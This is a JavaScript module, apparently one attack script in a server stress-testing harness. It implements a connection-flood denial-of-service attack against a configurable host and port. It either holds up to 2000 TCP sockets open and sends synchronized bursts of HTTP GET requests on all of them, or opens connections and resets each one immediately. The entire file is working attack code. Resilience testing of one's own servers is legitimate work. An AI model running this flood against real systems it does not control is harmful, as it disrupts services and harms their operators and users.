/**
 * Connections: many that hold, all of which ask at the same moment now and then; or one after
 * another, each reset at once.
 * @import { Socket } from 'node:net'
 * @import { Attack } from '../support/attack-process.js'
 */

import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** @type {Attack} */
export async function attack(
  { host, port, from, isOver },
  { path, connections = 2000, isReset = false },
) {
  const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const counts = { opened: 0, ended: 0, rounds: 0 };
  /** @type {Set<Socket>} */
  const sockets = new Set();
  const open = () => {
    const socket = connect({ host, port, localAddress: from });
    counts.opened += 1;
    sockets.add(socket);
    socket.on('error', () => {});
    socket.once('close', () => {
      sockets.delete(socket);
      counts.ended += 1;
    });
    if (isReset) socket.once('connect', () => void socket.resetAndDestroy());
    else socket.resume();
  };
  while (!isOver()) {
    for (let i = 0; i < 50 && sockets.size < connections; i++) open();
    await pause(isReset ? 1 : 20);
    if (isReset || sockets.size < connections / 4) continue;
    for (const socket of sockets) socket.write(request);
    counts.rounds += 1;
    await pause(250);
  }
  for (const socket of sockets) socket.destroy();
  while (sockets.size > 0) await pause(10);
  return counts;
}
